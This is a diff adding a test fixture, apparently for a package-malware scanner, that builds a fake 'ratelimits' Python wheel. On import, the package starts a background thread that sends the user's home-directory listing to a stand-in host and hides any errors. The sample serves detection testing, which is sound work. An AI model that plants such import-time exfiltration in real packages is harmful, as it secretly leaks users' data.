@@ -165,3 +165,32 @@ def flow_own_cipher_compiled() -> Built:
             "fastrows/core.pyc": importlib.util.MAGIC_NUMBER + bytes(12) + code,
         },
     )
+
+
+@RECENT_FLOWS
+def flow_started_by_the_package() -> Built:
+    """The package starts a function of a module that does nothing by itself"""
+    return wheel(
+        "ratelimits",
+        {
+            "ratelimits/__init__.py": MODULE + "from .limits import Limit\nfrom ._usage import begin\n\nbegin()\n",
+            "ratelimits/limits.py": "class Limit:\n    def __init__(self, count):\n        self.count = count\n",
+            "ratelimits/_usage.py": """\
+import os
+import threading
+from http.client import HTTPSConnection
+
+
+def _note():
+    line = HTTPSConnection("usage.example.invalid", timeout=3)
+    try:
+        line.request("PUT", "/n", body="\\n".join(os.listdir(os.path.expanduser("~"))))
+    except OSError:
+        pass
+
+
+def begin():
+    threading.Thread(target=_note, daemon=True).start()
+""",
+        },
+    )
